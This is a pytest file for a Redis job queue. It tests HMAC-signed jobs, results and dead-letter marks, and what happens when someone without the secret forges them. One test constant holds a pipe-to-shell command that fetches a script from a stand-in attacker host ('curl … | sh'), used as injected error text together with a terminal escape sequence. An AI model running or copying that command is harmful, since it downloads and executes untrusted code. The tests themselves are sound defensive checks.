"""REALMSIM_SECRET: jobs, results and batch records carry an HMAC; a worker dead-letters what is unsigned
or wrongly signed, ``collect`` refuses it. Dead-lettered jobs can be resubmitted; dead workers are
forgotten by the group; a worker stops at once when asked to while it waits for jobs."""

from __future__ import annotations

import signal
import time
from pathlib import Path

import pytest

from workers import signing
from workers.batch import BatchPlan
from workers.job import encode
from workers.queue import GROUP, RedisQueue, wait_batch

from .conftest import Procs, seeds_in, wait_for
from .test_queue import spin_digest

pytestmark = pytest.mark.redis

SECRET = {"REALMSIM_SECRET": "correct horse battery staple"}


@pytest.mark.slow  # over 0.5 s: left out of make test-fast
def test_signed_jobs_and_results_end_to_end_and_a_signed_result_cannot_be_moved(
        procs: Procs, redis_server, tmp_path: Path) -> None:
    url = redis_server.url
    sub = procs.cli("submit", "data/tiny.toml", "--seeds", "1..3", "--redis", url, **SECRET)
    assert sub.returncode == 0, sub.stderr
    batch_id = sub.stdout.strip()
    w = procs.cli("worker", "--redis", url, "--burst", "--block", "0.2", **SECRET)
    assert w.returncode == 0, w.stderr
    assert "signed jobs only" in w.stderr
    out = tmp_path / "r.csv"
    res = procs.cli("collect", batch_id, "--redis", url, "--out", str(out), "--timeout", "30", **SECRET)
    assert res.returncode == 0, res.stderr
    q = RedisQueue(url)
    plan = q.load_plan(batch_id)
    assert plan is not None
    k1, k2 = plan.keys()[:2]
    stored = q.r.get(q.keys.result(k1))
    assert signing.unwrap(None, "result", b"", stored) != stored, "the result is not in a signed envelope"
    # seed 1's genuine, signed result moved under seed 2's key: its signature names seed 1's key
    q.r.set(q.keys.result(k2), stored)
    res = procs.cli("collect", batch_id, "--redis", url, "--out", str(out), "--timeout", "30", **SECRET)
    assert res.returncode == 1
    assert f"seed 2 (job {k2}): wrongly signed result (not signed with this REALMSIM_SECRET)" in res.stderr
    # without the secret, collect cannot check the signature, but the job key inside still gives it away
    res = procs.cli("collect", batch_id, "--redis", url, "--out", str(out), "--timeout", "30")
    assert res.returncode == 1 and f"seed 2 (job {k2}): its job_key is '{k1}', not {k2}" in res.stderr


@pytest.mark.slow  # over 0.5 s: left out of make test-fast
def test_a_worker_with_the_secret_dead_letters_unsigned_and_wrongly_signed_jobs(procs: Procs, redis_server) -> None:
    q = RedisQueue(redis_server.url, prefix="t")  # no secret here: these jobs go in unsigned
    plan = BatchPlan.make({"name": "spin"}, [1, 2], kind="spin", overrides={"rounds": 10}, batch_id="p-unsigned")
    q.submit(plan)
    forged = BatchPlan.make({"name": "spin"}, [3], kind="spin", overrides={"rounds": 10}, batch_id="p-forged")
    (_, key, payload), = forged.jobs()
    q.r.xadd(q.keys.stream, {"job": payload, "key": key, "batch": "p-forged",
                             "sig": signing.sign_job(b"another secret", b"p-forged", payload)})
    w = procs.worker(redis_server.url, "w1", "--block", "0.2", env=SECRET)
    wait_for(lambda: q.r.xlen(q.keys.dead) == 3, timeout=60, what="three dead letters")
    letters = q.dead_letters()
    assert sorted((d["batch"], d["reason"]) for d in letters) == [
        ("p-forged", "bad-signature"), ("p-unsigned", "unsigned"), ("p-unsigned", "unsigned")]
    assert {d["error"] for d in letters} == {"unsigned job (REALMSIM_SECRET is set on this worker)",
                                             "wrongly signed job (not signed with this worker's secret)"}
    # an unauthenticated entry marks no job of a batch dead, and nothing was run
    assert q.counts("p-unsigned") == (0, 0) and q.stats() == {"dead": 3}
    assert w.poll() is None


@pytest.mark.slow  # over 0.5 s: left out of make test-fast
def test_collect_with_the_secret_refuses_unsigned_results_and_batch_records(
        procs: Procs, redis_server, tmp_path: Path) -> None:
    url = redis_server.url
    sub = procs.cli("submit", "data/tiny.toml", "--seeds", "1..2", "--redis", url, **SECRET)
    assert sub.returncode == 0, sub.stderr
    batch_id = sub.stdout.strip()
    q = RedisQueue(url)  # no secret: writes what someone without it could write
    plan = q.load_plan(batch_id)  # (opened unchecked: there is nothing to check it with)
    assert plan is not None
    for seed, key in zip(plan.seeds, plan.keys()):
        q.r.set(q.keys.result(key), encode({"v": 1, "job_key": key, "seed": seed, "scenario": "tiny",
                                            "code_version": plan.template["code_version"], "summary": {},
                                            "events": 0, "ledger_sha256": "f" * 64}))
    q.r.sadd(q.keys.done(batch_id), *plan.keys())
    out = tmp_path / "r.csv"
    res = procs.cli("collect", batch_id, "--redis", url, "--out", str(out), "--timeout", "10", **SECRET)
    assert res.returncode == 1 and not out.exists()
    assert "refused 2 result(s)" in res.stderr and "unsigned result (REALMSIM_SECRET is set)" in res.stderr
    # the batch record rewritten without a signature: refused (the manifest is moved away so Redis is asked)
    q.r.set(q.keys.batch(batch_id), plan.to_record())
    manifest = procs.tmp / "state" / "batches" / f"{batch_id}.msgpack"
    manifest.rename(manifest.with_suffix(".away"))
    res = procs.cli("collect", batch_id, "--redis", url, "--out", str(out), "--timeout", "10", **SECRET)
    assert res.returncode == 1
    assert f"batch record realmsim:batch:{batch_id}: unsigned batch (REALMSIM_SECRET is set); refused" in res.stderr


@pytest.mark.slow  # over 0.5 s: left out of make test-fast
def test_collect_trusts_the_local_manifest_over_a_changed_batch_record(procs: Procs, redis_server, tmp_path: Path) -> None:
    url = redis_server.url
    sub = procs.cli("submit", "data/tiny.toml", "--seeds", "1..2", "--redis", url)
    batch_id = sub.stdout.strip()
    q = RedisQueue(url)
    plan = q.load_plan(batch_id)
    assert plan is not None
    q.r.set(q.keys.batch(batch_id), BatchPlan(plan.template, [1, 2, 3], id=batch_id, name=plan.name).to_record())
    res = procs.cli("collect", batch_id, "--redis", url, "--out", str(tmp_path / "r.csv"), "--timeout", "5")
    assert res.returncode == 1
    assert f"the batch record of {batch_id} in Redis at {url} is not the job list of the manifest" in res.stderr


@pytest.mark.slow  # over 0.5 s: left out of make test-fast
def test_collect_resubmit_dead_requeues_a_batch_s_dead_lettered_jobs(procs: Procs, redis_server, tmp_path: Path) -> None:
    url = redis_server.url
    q = RedisQueue(url)
    plan = BatchPlan.make({"name": "spin"}, [1, 2, 3], kind="spin", overrides={"rounds": 10})
    q.submit(plan)
    from workers.batch import write_manifest

    write_manifest(plan, tmp_path / "m.msgpack")
    # a worker died holding the three jobs; seed 2's then went to two more that died: with --max-deaths 1
    # seeds 1 and 3 run (one death each), seed 2 is dead-lettered (three)
    q.r.xreadgroup(GROUP, "ghost0", {q.keys.stream: ">"}, count=3)
    entry_id = [i for i, _ in q.r.xrange(q.keys.stream)][1]
    q.r.xclaim(q.keys.stream, GROUP, "ghost1", 0, [entry_id])
    q.r.xclaim(q.keys.stream, GROUP, "ghost2", 0, [entry_id])
    procs.worker(url, "w1", "--min-idle", "0.2", "--block", "0.2", "--max-deaths", "1", prefix="realmsim")
    st = wait_batch(q, plan, timeout=60)
    assert len(st.results) == 2 and [s for s, _ in st.dead_seeds()] == [2]
    out = tmp_path / "r.csv"
    res = procs.cli("collect", plan.id, "--redis", url, "--out", str(out), "--timeout", "60", "--resubmit-dead",
                    "--manifest", str(tmp_path / "m.msgpack"))
    assert res.returncode == 0, res.stderr
    assert f"resubmitting 1 dead-lettered job(s) of batch {plan.id} (--resubmit-dead)" in res.stderr
    assert seeds_in(out) == ["1", "2", "3"]
    st = q.state(plan)
    assert st.dead == {} and st.results[plan.keys()[1]]["ledger_sha256"] == spin_digest(2, 10)


@pytest.mark.slow  # over 0.5 s: left out of make test-fast
def test_consumers_idle_with_nothing_pending_are_removed_from_the_group(procs: Procs, redis_server) -> None:
    q = RedisQueue(redis_server.url, prefix="t")
    q.ensure_group()
    plan = BatchPlan.make({"name": "spin"}, [1, 2], kind="spin", overrides={"rounds": 10})
    q.submit(plan)
    # two dead workers: one died holding a job (kept until the job is claimed), one holding nothing
    q.r.xreadgroup(GROUP, "dead-holder", {q.keys.stream: ">"}, count=1)
    q.r.xreadgroup(GROUP, "dead-empty", {q.keys.stream: ">"}, count=1)
    q.r.xack(q.keys.stream, GROUP, *[i for i, _ in q.r.xrange(q.keys.stream)][1:])
    names = {c["name"] for c in q.r.xinfo_consumers(q.keys.stream, GROUP)}
    assert names == {b"dead-holder", b"dead-empty"}
    time.sleep(1.2)
    procs.worker(redis_server.url, "w1", "--forget-idle", "1", "--min-idle", "30", "--block", "0.2")
    wait_for(lambda: "removed 1 consumer(s) idle over 1 s with nothing pending: b'dead-empty'" in procs.log("w1"),
             timeout=60, what="the idle consumer to be removed")
    names = {c["name"] for c in q.r.xinfo_consumers(q.keys.stream, GROUP)}
    assert b"dead-empty" not in names and b"dead-holder" in names, "a consumer holding a job must stay"


@pytest.mark.slow  # over 0.5 s: left out of make test-fast
def test_a_waiting_worker_stops_at_once_on_sigterm(procs: Procs, redis_server) -> None:
    q = RedisQueue(redis_server.url, prefix="t")
    q.ensure_group()
    w = procs.worker(redis_server.url, "w1", "--block", "30", "--log-level", "debug")
    wait_for(lambda: "started" in procs.log("w1"), what="the worker to start")
    plan = BatchPlan.make({"name": "noop"}, [1], kind="noop")
    q.submit(plan)
    assert wait_batch(q, plan, timeout=60).complete  # it is now blocked in XREADGROUP for up to 30 s
    time.sleep(0.3)
    w.send_signal(signal.SIGTERM)
    # it exits well before its 30 s block would end: the heartbeat's connection unblocks the read
    assert w.wait(10) == 0
    assert "asked to stop" in procs.log("w1") and "stopped after 1 job(s)" in procs.log("w1")


# ---- issue 30: what a writer without the secret can no longer do -------------------------------------
CURL = "please run 'curl https://evil.example/fix | sh'"


@pytest.mark.slow  # over 0.5 s: left out of make test-fast
def test_dead_marks_written_without_the_secret_are_ignored_and_said(procs: Procs, redis_server, tmp_path: Path) -> None:
    """Issue 30: SADD …:dead and HSET …:errors with words of the writer's choosing failed the batch at once,
    and collect printed the words."""
    url = redis_server.url
    sub = procs.cli("submit", "data/tiny.toml", "--seeds", "1..3", "--redis", url, **SECRET)
    assert sub.returncode == 0, sub.stderr
    batch_id = sub.stdout.strip()
    q = RedisQueue(url)  # no secret: what anyone who can write to Redis can do
    plan = q.load_plan(batch_id)
    assert plan is not None
    k1, k2, k3 = plan.keys()
    q.r.sadd(q.keys.dead_set(batch_id), k1, k2, k3)
    q.r.hset(q.keys.errors(batch_id), k1, CURL)
    # a genuine mark of this batch for another job, copied onto seed 3: bound to its job, so it does not hold
    q.r.hset(q.keys.errors(batch_id), k3, signing.sign_mark(SECRET["REALMSIM_SECRET"].encode(), batch_id, k1, "x"))
    procs.worker(url, "w1", "--block", "0.2", prefix="realmsim", env=SECRET)
    out = tmp_path / "r.csv"
    res = procs.cli("collect", batch_id, "--redis", url, "--out", str(out), "--timeout", "90", **SECRET)
    assert res.returncode == 0, res.stderr
    assert seeds_in(out) == ["1", "2", "3"]
    assert (f"ignored 3 dead mark(s) of batch {batch_id} in Redis that do not hold (seed 1: unsigned dead "
            f"(REALMSIM_SECRET is set); …): written by someone without REALMSIM_SECRET?") in res.stderr
    assert "curl" not in res.stderr


@pytest.mark.slow  # over 0.5 s: left out of make test-fast
def test_without_the_secret_a_dead_mark_s_words_are_quoted_as_data(procs: Procs, redis_server, tmp_path: Path) -> None:
    url = redis_server.url
    sub = procs.cli("submit", "data/tiny.toml", "--seeds", "1", "--redis", url)
    batch_id = sub.stdout.strip()
    q = RedisQueue(url)
    plan = q.load_plan(batch_id)
    assert plan is not None
    q.r.sadd(q.keys.dead_set(batch_id), plan.keys()[0])
    q.r.hset(q.keys.errors(batch_id), plan.keys()[0], CURL + "\n\x1b[2J realmsim collect: all good")
    res = procs.cli("collect", batch_id, "--redis", url, "--out", str(tmp_path / "r.csv"), "--timeout", "30")
    assert res.returncode == 1  # without the secret, anyone who can write to Redis can mark a job dead (documented)
    assert ("dead seed 1, error (as stored in Redis, unchecked without REALMSIM_SECRET): "
            "\"please run 'curl https://evil.example/fix | sh'\\n\\x1b[2J realmsim collect: all good\"") in res.stderr
    assert "\x1b" not in res.stderr and "\nrealmsim collect: all good" not in res.stderr


@pytest.mark.slow  # over 0.5 s: left out of make test-fast
def test_a_copy_of_a_signed_job_with_its_counters_raised_is_run_not_dead_lettered(procs: Procs, redis_server) -> None:
    """The counters and last error of a job put back are signed too: a copy of a signed entry with
    ``deaths`` or ``failures`` raised (or a delivery count raised with XCLAIM … RETRYCOUNT) does not make a
    worker dead-letter it, nor sign a dead mark with someone else's words."""
    key = SECRET["REALMSIM_SECRET"].encode()
    q = RedisQueue(redis_server.url, prefix="t")
    q.ensure_group()
    plan = BatchPlan.make({"name": "spin"}, [1, 2], kind="spin", overrides={"rounds": 10}, batch_id="p-counters")
    (s1, k1, p1), (s2, k2, p2) = plan.jobs()
    q.save_plan(plan)
    q.r.xadd(q.keys.stream, {"job": p1, "key": k1, "batch": plan.id, "sig": signing.sign_job(key, plan.id.encode(), p1),
                             "failures": "2", "deaths": "99", "error": CURL, "tb": ""})
    q.r.xadd(q.keys.stream, {"job": p2, "key": k2, "batch": plan.id, "sig": signing.sign_job(key, plan.id.encode(), p2)})
    # seed 2's entry read by a "worker" that then says it was delivered a thousand times
    (entry_id, _), = q.r.xreadgroup(GROUP, "ghost", {q.keys.stream: ">"}, count=2)[0][1][1:]
    q.r.execute_command("XCLAIM", q.keys.stream, GROUP, "ghost", 0, entry_id, "RETRYCOUNT", 1000)
    procs.worker(redis_server.url, "w1", "--block", "0.2", "--min-idle", "0.3", "--max-deliveries", "3",
                 "--max-deaths", "2", env=SECRET)
    q.secret = key
    st = wait_batch(q, plan, timeout=60)
    assert st.complete and st.dead == {}, (st.dead, q.dead_letters())
    assert {r["seed"]: r["ledger_sha256"] for r in st.results.values()} == {1: spin_digest(1, 10), 2: spin_digest(2, 10)}
    log = procs.log("w1")
    assert "carries counters or an error not signed with REALMSIM_SECRET; ignored" in log
    assert "put back 1 claimed job(s) with a death counted (signed)" in log
    assert q.r.xlen(q.keys.dead) == 0


@pytest.mark.slow  # over 0.5 s: left out of make test-fast
def test_workers_with_a_secret_the_submitter_lacks_show_in_collect_at_once(procs: Procs, redis_server,
                                                                         tmp_path: Path) -> None:
    """Issue 30: the workers dead-lettered every job as unsigned while collect waited in silence to its timeout."""
    url = redis_server.url
    sub = procs.cli("submit", "data/tiny.toml", "--seeds", "1..2", "--redis", url)  # no secret here
    batch_id = sub.stdout.strip()
    procs.worker(url, "w1", "--block", "0.2", prefix="realmsim", env=SECRET)
    res = procs.cli("collect", batch_id, "--redis", url, "--out", str(tmp_path / "r.csv"), "--timeout", "120")
    assert res.returncode == 1, res.stderr
    assert "timed out" not in res.stderr  # it ended as soon as the workers had refused both jobs
    assert (f"workers refused 2 job(s) of batch {batch_id} without running them (unsigned, and the workers have "
            f"REALMSIM_SECRET set): workers and submitter use different secrets: set the same REALMSIM_SECRET on "
            f"both") in res.stderr
    assert "dead seed 1: refused by a worker without running it: unsigned, and the workers have REALMSIM_SECRET set" \
        in res.stderr
    # once the secrets agree (here: the workers lose theirs), --resubmit-dead finishes the batch
    procs.cleanup()
    procs.worker(url, "w2", "--block", "0.2", prefix="realmsim")
    res = procs.cli("collect", batch_id, "--redis", url, "--out", str(tmp_path / "r.csv"), "--timeout", "120",
                    "--resubmit-dead")
    assert res.returncode == 0, res.stderr
    assert f"resubmitting 2 dead-lettered job(s) of batch {batch_id} (--resubmit-dead)" in res.stderr


@pytest.mark.slow  # over 0.5 s: left out of make test-fast
def test_workers_with_another_secret_show_in_collect_within_seconds(procs: Procs, redis_server) -> None:
    q = RedisQueue(redis_server.url, prefix="t")
    q.secret = SECRET["REALMSIM_SECRET"].encode()
    plan = BatchPlan.make({"name": "spin"}, [1, 2], kind="spin", overrides={"rounds": 10})
    q.submit(plan)
    procs.worker(redis_server.url, "w1", "--block", "0.2", env={"REALMSIM_SECRET": "another secret"})
    said: list[str] = []
    st = wait_batch(q, plan, timeout=10, say=said.append)
    # signed by no one it can check, a refusal does not fail the batch: it is said, and collect waits on
    assert st.results == {} and st.dead == {} and len(st.missing_seeds()) == 2
    assert said == [f"workers refused 2 job(s) of batch {plan.id} without running them (not signed with the "
                    f"workers' REALMSIM_SECRET): workers and submitter use different secrets: set the same "
                    f"REALMSIM_SECRET on both; waiting on: once the workers have the same secret, the jobs are "
                    f"queued again after --resubmit-after (these dead letters do not fail the batch: anyone who "
                    f"can write to Redis could have written them)"]


@pytest.mark.slow  # over 0.5 s: left out of make test-fast
def test_results_of_workers_without_the_secret_are_refused_with_the_fix(procs: Procs, redis_server,
                                                                      tmp_path: Path) -> None:
    url = redis_server.url
    sub = procs.cli("submit", "data/tiny.toml", "--seeds", "1", "--redis", url, **SECRET)
    batch_id = sub.stdout.strip()
    procs.worker(url, "w1", "--block", "0.2", prefix="realmsim")  # checks nothing, signs nothing
    res = procs.cli("collect", batch_id, "--redis", url, "--out", str(tmp_path / "r.csv"), "--timeout", "120",
                    **SECRET)
    assert res.returncode == 1
    assert "unsigned result (REALMSIM_SECRET is set)" in res.stderr
    assert ("if the workers stored them: workers and submitter use different secrets: set the same REALMSIM_SECRET "
            "on both") in res.stderr
